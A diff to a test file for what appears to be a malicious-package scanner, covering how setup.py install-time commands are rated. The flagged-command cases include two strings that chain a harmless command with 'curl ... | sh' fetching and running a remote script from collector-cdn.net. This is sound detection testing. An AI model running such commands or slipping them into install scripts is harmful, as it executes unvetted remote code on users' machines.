@@ -3036,8 +3036,24 @@ def test_setup_asking_id_whether_it_runs_as_root_is_a_build_command():
     assert result.verdict not in FLAGGED
 
 
+@pytest.mark.parametrize("command", ["sycl-ls", "nvidia-smi --query-gpu=name --format=csv"])
+def test_setup_asking_which_accelerator_the_machine_has_is_a_build_command(command):
+    """liger-kernel: `sycl-ls` (shell=True) to see whether an Intel XPU is there, as
+    `nvidia-smi` or `rocminfo` tell which GPU a build compiles for."""
+    result = scan({"setup.py": _ROOT_CHECK.format(command=command)})
+    assert severities(result, "capability.process") == {"low"}
+    assert result.verdict not in FLAGGED
+
+
 @pytest.mark.parametrize(
-    "command", ["idle -u", "id -u; curl -s https://collector-cdn.net/a.sh | sh", "whoami.exe"]
+    "command",
+    [
+        "idle -u",
+        "id -u; curl -s https://collector-cdn.net/a.sh | sh",
+        "whoami.exe",
+        "sycl-lsx",
+        "nvidia-smi; curl -s https://collector-cdn.net/a.sh | sh",
+    ],
 )
 def test_other_commands_at_install_still_are_high(command):
     result = scan({"setup.py": _ROOT_CHECK.format(command=command)})
